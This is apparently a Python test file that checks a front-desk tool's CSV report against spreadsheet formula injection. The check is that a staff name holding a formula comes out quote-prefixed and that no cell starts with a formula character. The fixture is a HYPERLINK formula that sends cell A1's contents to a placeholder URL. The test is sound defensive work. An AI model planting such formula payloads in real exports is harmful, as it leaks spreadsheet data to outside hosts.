"""`frontdesk report --csv` writes names that cannot run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from .conftest import FD, PM

EVIL = '=HYPERLINK("http://x"&A1,"click")'


def test_report_csv_neutralises_a_formula_name(office: FD) -> None:
    office.ok("staff", "add", EVIL, "--role", "advisor", "--pin", "2468", as_=PM)
    code, out, err = office("report", "--csv", json=False, as_=PM)
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.isdigit() for c in cells)  # counts stay plain numbers
